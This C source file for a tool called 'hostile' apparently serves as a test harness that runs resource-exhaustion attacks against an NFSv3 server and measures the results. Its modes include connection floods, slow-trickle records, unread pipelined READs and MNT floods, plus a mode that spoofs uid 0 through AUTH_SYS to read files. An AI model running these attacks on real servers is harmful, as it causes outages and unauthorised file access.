/*
 * hostile: the resource attacks of issue 14 against an NFSv3 + MOUNT v3
 * server on one TCP port, each measured from the client side.
 *
 *   hostile HOST PORT MODE [options]
 *
 * MODE
 *   idle N          open N connections and send nothing
 *   partial N       open N connections; each sends a record marker for
 *                   --size bytes (default 1 MiB) and all of them but one
 *   reads N         N connections; each MNTs --export, LOOKUPs --file, then
 *                   sends --calls READs of 1 MiB at offset 0 in one go and
 *                   never reads a reply
 *   mnt N           one connection: N MNT calls of --path in one go; every
 *                   reply is read and its mountstat3 counted
 *   authnone N      one connection: MNT --export (AUTH_SYS), then N GETATTRs
 *                   of the root with an AUTH_NONE credential in one go;
 *                   replies read and counted
 *   uid0 (with --file): MNT --export and LOOKUP --file as AUTH_SYS uid 0,
 *                   then one READ of 4 KiB; prints the MNT, LOOKUP and READ
 *                   answers ("mnt 0 lookup 0 read 0 bytes 17"; "read
 *                   denied AUTH_TOOWEAK" for an RPC-level refusal) - the
 *                   process's own uid does not matter, as with any
 *                   AUTH_SYS client; with --fh HEX the MNT is skipped and
 *                   the LOOKUP is made in that directory (a handle need not
 *                   be learnt from the MNT: handles are not secrets)
 *   trickle N       open N connections; each sends a record marker for
 *                   --size bytes (default 1 MiB), then --rate bytes a
 *                   second of the record (in pieces every 100 ms, never
 *                   its last byte) for --hold s; a connection the server
 *                   closes is opened again (the slow-client attack of
 *                   issue 35: little held, much announced); SIGTERM
 *                   ends it early
 *   ping            one connection, an NFS NULL every 100 ms for --hold s:
 *                   "pings N answered M max_ms T" (a client that was there
 *                   before an attack and must stay served)
 * Options
 *   --hold S        keep the connections S seconds after sending (idle,
 *                   partial, reads) [5]
 *   --export PATH --file NAME --path PATH --calls M --size BYTES
 *   --high-port     connect from an ephemeral port even as root (the
 *                   default as root: a reserved one, resvport.h)
 *   --timeout S     limit on each connect and reply wait [10]
 *   --from ADDR     connect from this address (port chosen by the kernel,
 *                   or a reserved one as above): 127.0.0.2 is a second
 *                   client host on loopback
 *   --rate BYTES    trickle: bytes a second per connection [1024]
 *
 * Prints one line of "key value" pairs:
 *   opened N    connections that connected
 *   refused N   connects that failed (or timed out)
 *   closed N    connections the server closed during the hold
 *   reopened N  trickle: connections opened again after a close
 *   sent_bytes N
 *   first_close_ms / last_close_ms   when (from the end of sending)
 *   replies N, and for mnt/authnone "st_K N" per mountstat3 / reply kind
 * Exit 0 when it ran (whatever the server did), 1 on a set-up failure
 * (MNT or LOOKUP refused), 2 on a usage error.
 */
#include "deadline.h"
#include "resvport.h"
#include "xdrbuf.h"
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define LAST_FRAG    0x80000000u
#define PROG_NFS     100003u
#define PROG_MOUNT   100005u
#define NFS3_GETATTR 1
#define NFS3_LOOKUP  3
#define NFS3_READ    6
#define MOUNT3_MNT   1
#define FHMAX        64
#define MAX_REPLY    (2u * 1024 * 1024)

static struct sockaddr_storage g_addr;
static socklen_t g_addrlen;
static int g_timeout_ms = 10000;
static uint32_t g_xid = 0x40000000u;
static const struct authsys g_auth = {0x486f5331u, "hostile"};

struct fh {
	uint8_t d[FHMAX];
	uint32_t len;
};

static void usage(void)
{
	fprintf(stderr, "usage: hostile HOST PORT idle|partial|reads|mnt|authnone|uid0|trickle|ping "
	                "[N] [--hold S] [--export PATH] [--file NAME] [--path PATH] [--calls M] "
	                "[--size BYTES] [--fh HEX] [--high-port] [--timeout S] [--from ADDR] "
	                "[--rate BYTES]\n");
	exit(2);
}

static double now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

/* --- records ---------------------------------------------------------------- */

static size_t call_begin(struct xbuf *b, uint32_t xid, uint32_t prog, uint32_t proc, int none)
{
	size_t mark = b->len;

	xb_u32(b, 0); /* the record marker, set by xb_record_end() */
	if (none) {
		xb_call_hdr(b, xid, 2, prog, 3, proc);
		xb_auth_none(b);
		xb_auth_none(b);
	} else {
		xb_call(b, &g_auth, xid, prog, 3, proc);
	}
	return mark;
}

/* --- sockets -------------------------------------------------------------------- */

/* A connected blocking-with-deadline socket, or -1. */
static int tcp_connect(void)
{
	struct pollfd p;
	int soerr = 0;
	socklen_t sl = sizeof(soerr);
	int fd = resv_connect_start((struct sockaddr *)&g_addr, g_addrlen, 1);

	if (fd < 0)
		return -1;
	p.fd = fd;
	p.events = POLLOUT;
	if (poll(&p, 1, g_timeout_ms) <= 0 ||
	    getsockopt(fd, SOL_SOCKET, SO_ERROR, &soerr, &sl) != 0 || soerr) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Sends what the socket takes within the deadline. Returns bytes sent. */
static size_t send_some(int fd, const uint8_t *p, size_t n, int ms)
{
	struct timespec dl;
	size_t done = 0;

	deadline_in(&dl, ms);
	while (done < n) {
		ssize_t w = send(fd, p + done, n - done, MSG_NOSIGNAL | MSG_DONTWAIT);
		if (w > 0) {
			done += (size_t)w;
			continue;
		}
		if (w < 0 && errno == EINTR)
			continue;
		if (w < 0 && errno != EAGAIN)
			break;
		struct pollfd pf = {.fd = fd, .events = POLLOUT};
		long left = ms_left(&dl);
		if (left == 0 || poll(&pf, 1, (int)left) <= 0)
			break;
	}
	return done;
}

static int read_full(int fd, uint8_t *p, size_t n, const struct timespec *dl)
{
	while (n > 0) {
		ssize_t r = recv(fd, p, n, MSG_DONTWAIT);
		if (r > 0) {
			p += r;
			n -= (size_t)r;
			continue;
		}
		if (r == 0)
			return -1;
		if (errno == EINTR)
			continue;
		if (errno != EAGAIN)
			return -1;
		struct pollfd pf = {.fd = fd, .events = POLLIN};
		long left = ms_left(dl);
		if (left == 0 || poll(&pf, 1, (int)left) <= 0)
			return -1;
	}
	return 0;
}

static uint8_t g_rbuf[MAX_REPLY];

/* One reply record into g_rbuf; its length or -1. */
static long read_record(int fd)
{
	struct timespec dl;
	size_t len = 0;
	uint8_t m[4];

	deadline_in(&dl, g_timeout_ms);
	for (;;) {
		if (read_full(fd, m, 4, &dl) != 0)
			return -1;
		uint32_t flen = get_u32(m) & ~LAST_FRAG;
		if (len + flen > MAX_REPLY || read_full(fd, g_rbuf + len, flen, &dl) != 0)
			return -1;
		len += flen;
		if (get_u32(m) & LAST_FRAG)
			return (long)len;
	}
}

/* What a reply says: -1 unreadable; else kind (0 accepted SUCCESS, 1
 * MSG_DENIED, 2 accepted with an error) and *detail (auth_stat,
 * accept_stat), *res at the result. */
static int parse_reply(long n, uint32_t *xid, uint32_t *detail, size_t *res)
{
	size_t off = 12;

	if (n < 16)
		return -1;
	*xid = get_u32(g_rbuf);
	if (get_u32(g_rbuf + 4) != 1)
		return -1;
	if (get_u32(g_rbuf + 8) != 0) { /* MSG_DENIED */
		*detail = n >= 20 ? get_u32(g_rbuf + 16) : 0;
		return 1;
	}
	uint32_t vlen = get_u32(g_rbuf + 16);
	off = 20 + ((vlen + 3) & ~3u);
	if ((size_t)n < off + 4)
		return -1;
	*detail = get_u32(g_rbuf + off);
	*res = off + 4;
	return *detail == 0 ? 0 : 2;
}

/* One call on fd, its reply's result status (mountstat3 / nfsstat3) and
 * the handle after it when out is set; -1 no reply, -2 an RPC-level
 * refusal (*detail). */
static int call_fh(int fd, struct xbuf *b, uint32_t xid, struct fh *out, uint32_t *detail)
{
	uint32_t rx;
	size_t res = 0;
	long n;
	int k;

	if (send_some(fd, b->d, b->len, g_timeout_ms) != b->len || (n = read_record(fd)) < 0)
		return -1;
	k = parse_reply(n, &rx, detail, &res);
	if (k < 0 || rx != xid)
		return -1;
	if (k != 0)
		return -2;
	if ((size_t)n < res + 4)
		return -1;
	int st = (int)get_u32(g_rbuf + res);
	if (st == 0 && out) {
		uint32_t l = (size_t)n >= res + 8 ? get_u32(g_rbuf + res + 4) : 0;
		if (l == 0 || l > FHMAX || (size_t)n < res + 8 + l)
			return -1;
		memcpy(out->d, g_rbuf + res + 8, l);
		out->len = l;
	}
	return st;
}

static int do_mnt(int fd, const char *path, struct fh *root, uint32_t *detail)
{
	struct xbuf b = {0};
	uint32_t xid = ++g_xid;
	size_t m = call_begin(&b, xid, PROG_MOUNT, MOUNT3_MNT, 0);

	xb_opaque(&b, path, (uint32_t)strlen(path));
	xb_record_end(&b, m);
	int st = call_fh(fd, &b, xid, root, detail);
	xb_free(&b);
	return st;
}

static int do_lookup(int fd, const struct fh *dir, const char *name, struct fh *out,
                     uint32_t *detail)
{
	struct xbuf b = {0};
	uint32_t xid = ++g_xid;
	size_t m = call_begin(&b, xid, PROG_NFS, NFS3_LOOKUP, 0);

	xb_opaque(&b, dir->d, dir->len);
	xb_opaque(&b, name, (uint32_t)strlen(name));
	xb_record_end(&b, m);
	int st = call_fh(fd, &b, xid, out, detail);
	xb_free(&b);
	return st;
}

static void add_read(struct xbuf *b, const struct fh *f, uint32_t count)
{
	size_t m = call_begin(b, ++g_xid, PROG_NFS, NFS3_READ, 0);

	xb_opaque(b, f->d, f->len);
	xb_u64(b, 0);
	xb_u32(b, count);
	xb_record_end(b, m);
}

static const char *auth_stat_name(uint32_t s)
{
	static const char *const n[] = {"AUTH_OK",      "AUTH_BADCRED",      "AUTH_REJECTEDCRED",
	                                "AUTH_BADVERF", "AUTH_REJECTEDVERF", "AUTH_TOOWEAK"};
	return s < 6 ? n[s] : "AUTH_?";
}

/* --- holding connections ------------------------------------------------------ */

/* Waits hold_ms while watching fds for the server's close (data that
 * arrives is read and dropped only when drain). Prints the counts. */
static void hold(int *fds, int n, int hold_ms, int drain)
{
	struct pollfd *p = calloc((size_t)n + 1, sizeof(*p));
	double t0 = now_ms(), first = -1, last = -1;
	int closed = 0;
	static uint8_t junk[65536];

	for (int i = 0; i < n; i++) {
		p[i].fd = fds[i];
		p[i].events = drain ? POLLIN : 0; /* POLLHUP/POLLERR are always reported */
	}
	while (now_ms() - t0 < hold_ms && closed < n) {
		int left = (int)(hold_ms - (now_ms() - t0));
		int r = poll(p, (nfds_t)n, left > 100 ? 100 : left < 1 ? 1 : left);
		if (r <= 0)
			continue;
		for (int i = 0; i < n; i++) {
			if (p[i].fd < 0 || p[i].revents == 0)
				continue;
			ssize_t k = 1;
			if (p[i].revents & POLLIN)
				k = recv(p[i].fd, junk, sizeof(junk), MSG_DONTWAIT);
			if ((p[i].revents & (POLLHUP | POLLERR)) || k == 0 ||
			    (k < 0 && errno != EAGAIN && errno != EINTR)) {
				double t = now_ms() - t0;
				if (first < 0)
					first = t;
				last = t;
				closed++;
				close(p[i].fd);
				p[i].fd = -1;
			}
		}
	}
	printf(" closed %d first_close_ms %.0f last_close_ms %.0f", closed, first, last);
	for (int i = 0; i < n; i++)
		if (p[i].fd >= 0)
			close(p[i].fd);
	free(p);
}

/* --- modes -------------------------------------------------------------------- */

struct opts {
	int n, hold_s, calls, rate;
	size_t size;
	const char *export_path, *file, *path, *fh_hex;
};

static int open_many(int n, int *fds, int *refused)
{
	int opened = 0;

	*refused = 0;
	for (int i = 0; i < n; i++) {
		int fd = tcp_connect();
		if (fd < 0) {
			(*refused)++;
			continue;
		}
		fds[opened++] = fd;
	}
	return opened;
}

static int mode_idle_partial(const struct opts *o, int partial)
{
	int *fds = calloc((size_t)o->n, sizeof(int)), refused;
	int opened = open_many(o->n, fds, &refused);
	uint8_t *rec = NULL;

	if (partial) {
		/* a marker for size bytes, then size - 1 of them (zeros) */
		uint32_t m = LAST_FRAG | (uint32_t)o->size;
		rec = calloc(1, o->size + 3);
		rec[0] = (uint8_t)(m >> 24);
		rec[1] = (uint8_t)(m >> 16);
		rec[2] = (uint8_t)(m >> 8);
		rec[3] = (uint8_t)m;
		for (int i = 0; i < opened; i++)
			send_some(fds[i], rec, o->size + 3, 2000);
	}
	printf("opened %d refused %d", opened, refused);
	hold(fds, opened, o->hold_s * 1000, 1);
	printf("\n");
	free(rec);
	free(fds);
	return 0;
}

/* Sends the marker of a size-byte record on fd. 0, or -1 when it did not go. */
static int send_marker(int fd, size_t size)
{
	uint32_t m = LAST_FRAG | (uint32_t)size;
	uint8_t b[4] = {(uint8_t)(m >> 24), (uint8_t)(m >> 16), (uint8_t)(m >> 8), (uint8_t)m};

	return send_some(fd, b, 4, 1000) == 4 ? 0 : -1;
}

static volatile sig_atomic_t g_stop;

static void on_term(int sig)
{
	(void)sig;
	g_stop = 1;
}

static int mode_trickle(const struct opts *o)
{
	int *fds = calloc((size_t)o->n, sizeof(int)), refused = 0, opened = 0;
	size_t *done = calloc((size_t)o->n, sizeof(size_t)), total = 0;
	struct pollfd *p = calloc((size_t)o->n, sizeof(*p));
	static uint8_t zeros[65536];
	size_t piece = (size_t)o->rate / 10 ? (size_t)o->rate / 10 : 1;
	int closed = 0, reopened = 0;
	double t0, next;

	if (piece > sizeof(zeros))
		piece = sizeof(zeros);
	for (int i = 0; i < o->n; i++) {
		fds[i] = tcp_connect();
		if (fds[i] < 0 || send_marker(fds[i], o->size) != 0) {
			refused++;
			if (fds[i] >= 0)
				close(fds[i]);
			fds[i] = -1;
			continue;
		}
		opened++;
	}
	t0 = now_ms();
	next = t0;
	signal(SIGTERM, on_term); /* SIGTERM ends the hold early, with the counts printed */
	while (now_ms() - t0 < o->hold_s * 1000.0 && !g_stop) {
		int reopen_budget = 256; /* a tick stays short when many were closed */

		if (now_ms() >= next) {
			next += 100;
			for (int i = 0; i < o->n; i++) {
				if (fds[i] < 0 && reopen_budget-- > 0) {
					int fd = tcp_connect();
					if (fd >= 0 && send_marker(fd, o->size) == 0) {
						fds[i] = fd;
						done[i] = 0;
						reopened++;
					} else if (fd >= 0) {
						close(fd);
					}
				}
				if (fds[i] < 0)
					continue;
				size_t n = o->size - 1 - done[i] < piece ? o->size - 1 - done[i] : piece;
				ssize_t w = n ? send(fds[i], zeros, n, MSG_NOSIGNAL | MSG_DONTWAIT) : 0;
				if (w > 0) {
					done[i] += (size_t)w;
					total += (size_t)w;
				}
			}
		}
		/* the server's closes */
		for (int i = 0; i < o->n; i++) {
			p[i].fd = fds[i];
			p[i].events = POLLIN;
			p[i].revents = 0;
		}
		double wait = next - now_ms();
		if (poll(p, (nfds_t)o->n, wait < 1 ? 1 : (int)wait) <= 0)
			continue;
		for (int i = 0; i < o->n; i++) {
			uint8_t junk[256];
			if (fds[i] < 0 || p[i].revents == 0)
				continue;
			ssize_t k = recv(fds[i], junk, sizeof(junk), MSG_DONTWAIT);
			if (k == 0 || (k < 0 && errno != EAGAIN && errno != EINTR) ||
			    (p[i].revents & (POLLHUP | POLLERR))) {
				close(fds[i]);
				fds[i] = -1;
				closed++;
			}
		}
	}
	printf("opened %d refused %d closed %d reopened %d sent_bytes %zu\n", opened, refused,
	       closed, reopened, total);
	for (int i = 0; i < o->n; i++)
		if (fds[i] >= 0)
			close(fds[i]);
	free(p);
	free(done);
	free(fds);
	return 0;
}

static int mode_reads(const struct opts *o)
{
	int *fds = calloc((size_t)o->n, sizeof(int)), refused, opened;
	struct fh root, file;
	uint32_t detail = 0;
	size_t sent = 0;

	opened = open_many(o->n, fds, &refused);
	for (int i = 0; i < opened; i++) {
		struct xbuf b = {0};

		if (do_mnt(fds[i], o->export_path, &root, &detail) != 0 ||
		    do_lookup(fds[i], &root, o->file, &file, &detail) != 0) {
			fprintf(stderr, "hostile: MNT %s / LOOKUP %s failed\n", o->export_path,
			        o->file);
			return 1;
		}
		for (int k = 0; k < o->calls; k++)
			add_read(&b, &file, 1024 * 1024);
		/* as much as the server reads within a second: backpressure
		 * stops the rest */
		sent += send_some(fds[i], b.d, b.len, 1000);
		xb_free(&b);
	}
	printf("opened %d refused %d sent_bytes %zu", opened, refused, sent);
	hold(fds, opened, o->hold_s * 1000, 0);
	printf("\n");
	free(fds);
	return 0;
}

/* One connection, n calls in one go (mnt: MNT of path; authnone:
 * AUTH_NONE GETATTRs of the root), every reply counted by its status. */
static int mode_pipeline(const struct opts *o, int authnone)
{
	int fd = tcp_connect();
	struct xbuf b = {0};
	struct fh root;
	uint32_t detail = 0, rx;
	size_t res = 0;
	unsigned counts[32] = {0}, denied = 0, errors = 0, replies = 0;
	double t0;

	if (fd < 0) {
		fprintf(stderr, "hostile: connect: %s\n", strerror(errno));
		return 1;
	}
	if (authnone && do_mnt(fd, o->export_path, &root, &detail) != 0) {
		fprintf(stderr, "hostile: MNT %s failed\n", o->export_path);
		return 1;
	}
	for (int i = 0; i < o->n; i++) {
		size_t m;
		if (authnone) {
			m = call_begin(&b, ++g_xid, PROG_NFS, NFS3_GETATTR, 1);
			xb_opaque(&b, root.d, root.len);
		} else {
			m = call_begin(&b, ++g_xid, PROG_MOUNT, MOUNT3_MNT, 0);
			xb_opaque(&b, o->path, (uint32_t)strlen(o->path));
		}
		xb_record_end(&b, m);
	}
	t0 = now_ms();
	size_t off = 0;
	while (replies < (unsigned)o->n) {
		if (off < b.len) {
			ssize_t w = send(fd, b.d + off, b.len - off, MSG_NOSIGNAL | MSG_DONTWAIT);
			if (w > 0)
				off += (size_t)w;
		}
		struct pollfd p = {.fd = fd, .events = POLLIN | (off < b.len ? POLLOUT : 0)};
		if (poll(&p, 1, g_timeout_ms) <= 0)
			break;
		if (!(p.revents & POLLIN))
			continue;
		long n = read_record(fd);
		if (n < 0)
			break;
		replies++;
		int k = parse_reply(n, &rx, &detail, &res);
		if (k == 1)
			denied++;
		else if (k != 0)
			errors++;
		else if ((size_t)n >= res + 4 && get_u32(g_rbuf + res) < 32)
			counts[get_u32(g_rbuf + res)]++;
	}
	printf("sent %d replies %u ms %.0f denied %u rpc_errors %u", o->n, replies, now_ms() - t0,
	       denied, errors);
	for (int i = 0; i < 32; i++)
		if (counts[i])
			printf(" st_%d %u", i, counts[i]);
	printf("\n");
	close(fd);
	xb_free(&b);
	return 0;
}

static int parse_hex(const char *hex, struct fh *fh)
{
	size_t n = strlen(hex);

	if (n == 0 || n % 2 || n / 2 > FHMAX)
		return -1;
	for (size_t i = 0; i < n / 2; i++) {
		unsigned v;
		if (sscanf(hex + 2 * i, "%2x", &v) != 1)
			return -1;
		fh->d[i] = (uint8_t)v;
	}
	fh->len = (uint32_t)(n / 2);
	return 0;
}

static int mode_uid0(const struct opts *o)
{
	int fd = tcp_connect();
	struct fh root, file;
	uint32_t detail = 0;
	int st;

	if (fd < 0) {
		fprintf(stderr, "hostile: connect: %s\n", strerror(errno));
		return 1;
	}
	if (o->fh_hex) {
		if (parse_hex(o->fh_hex, &root) != 0)
			usage();
		st = 0;
		printf("mnt skipped");
	} else {
		st = do_mnt(fd, o->export_path, &root, &detail);
		printf("mnt %d", st);
	}
	if (st == 0) {
		st = do_lookup(fd, &root, o->file, &file, &detail);
		if (st == -2)
			printf(" lookup denied %s", auth_stat_name(detail));
		else
			printf(" lookup %d", st);
	}
	if (st == 0) {
		struct xbuf b = {0};
		uint32_t rx;
		size_t res = 0;
		long n;

		add_read(&b, &file, 4096);
		if (send_some(fd, b.d, b.len, g_timeout_ms) != b.len || (n = read_record(fd)) < 0) {
			printf(" read none");
		} else {
			int k = parse_reply(n, &rx, &detail, &res);
			if (k == 1)
				printf(" read denied %s", auth_stat_name(detail));
			else if (k != 0)
				printf(" read rpc_error %u", detail);
			else {
				/* READ3resok: status, post_op_attr, count, eof, data */
				uint32_t rst = get_u32(g_rbuf + res);
				printf(" read %u", rst);
				if (rst == 0) {
					size_t p = res + 4;
					if (get_u32(g_rbuf + p))
						p += 84;
					p += 4;
					printf(" bytes %u", get_u32(g_rbuf + p));
				}
			}
		}
		xb_free(&b);
	}
	printf("\n");
	close(fd);
	return 0;
}

static int mode_ping(const struct opts *o)
{
	int fd = tcp_connect(), pings = 0, answered = 0;
	double t0 = now_ms(), worst = 0;

	if (fd < 0) {
		fprintf(stderr, "hostile: connect: %s\n", strerror(errno));
		return 1;
	}
	while (now_ms() - t0 < o->hold_s * 1000.0) {
		struct xbuf b = {0};
		uint32_t xid = ++g_xid, detail = 0, rx;
		size_t res = 0;
		double t = now_ms();
		long n;

		xb_record_end(&b, call_begin(&b, xid, PROG_NFS, 0, 0));
		pings++;
		if (send_some(fd, b.d, b.len, g_timeout_ms) == b.len &&
		    (n = read_record(fd)) >= 0 && parse_reply(n, &rx, &detail, &res) == 0 &&
		    rx == xid) {
			answered++;
			if (now_ms() - t > worst)
				worst = now_ms() - t;
		}
		xb_free(&b);
		usleep(100000);
	}
	printf("pings %d answered %d max_ms %.0f\n", pings, answered, worst);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	struct opts o = {.n = 1,
	                 .hold_s = 5,
	                 .calls = 400,
	                 .rate = 1024,
	                 .size = 1024 * 1024,
	                 .export_path = "/",
	                 .file = NULL,
	                 .path = "/"};
	struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *ai;
	struct rlimit rl;
	const char *mode;
	int argi = 4;

	if (argc < 4)
		usage();
	mode = argv[3];
	if (argc > 4 && argv[4][0] != '-') {
		o.n = atoi(argv[4]);
		argi = 5;
	}
	for (int i = argi; i < argc; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (strcmp(a, "--high-port") == 0) {
			resv_force_high();
			continue;
		}
		if (v == NULL)
			usage();
		i++;
		if (strcmp(a, "--hold") == 0)
			o.hold_s = atoi(v);
		else if (strcmp(a, "--export") == 0)
			o.export_path = v;
		else if (strcmp(a, "--file") == 0)
			o.file = v;
		else if (strcmp(a, "--path") == 0)
			o.path = v;
		else if (strcmp(a, "--calls") == 0)
			o.calls = atoi(v);
		else if (strcmp(a, "--size") == 0)
			o.size = (size_t)strtoul(v, NULL, 0);
		else if (strcmp(a, "--fh") == 0)
			o.fh_hex = v;
		else if (strcmp(a, "--timeout") == 0)
			g_timeout_ms = atoi(v) * 1000;
		else if (strcmp(a, "--rate") == 0)
			o.rate = atoi(v);
		else if (strcmp(a, "--from") == 0) {
			if (resv_source(v) != 0)
				usage();
		} else
			usage();
	}
	if (o.n < 1 || o.size < 8 || o.size > 0x7fffffff || o.rate < 1)
		usage();
	if (getaddrinfo(argv[1], argv[2], &hints, &ai) != 0) {
		fprintf(stderr, "hostile: cannot resolve %s:%s\n", argv[1], argv[2]);
		return 2;
	}
	memcpy(&g_addr, ai->ai_addr, ai->ai_addrlen);
	g_addrlen = ai->ai_addrlen;
	freeaddrinfo(ai);
	/* as many descriptors as the hard limit allows */
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	signal(SIGPIPE, SIG_IGN);
	if (strcmp(mode, "idle") == 0)
		return mode_idle_partial(&o, 0);
	if (strcmp(mode, "partial") == 0)
		return mode_idle_partial(&o, 1);
	if ((strcmp(mode, "reads") == 0 || strcmp(mode, "uid0") == 0) && o.file == NULL)
		usage();
	if (strcmp(mode, "reads") == 0)
		return mode_reads(&o);
	if (strcmp(mode, "mnt") == 0)
		return mode_pipeline(&o, 0);
	if (strcmp(mode, "authnone") == 0)
		return mode_pipeline(&o, 1);
	if (strcmp(mode, "uid0") == 0)
		return mode_uid0(&o);
	if (strcmp(mode, "ping") == 0)
		return mode_ping(&o);
	if (strcmp(mode, "trickle") == 0)
		return mode_trickle(&o);
	usage();
	return 2;
}
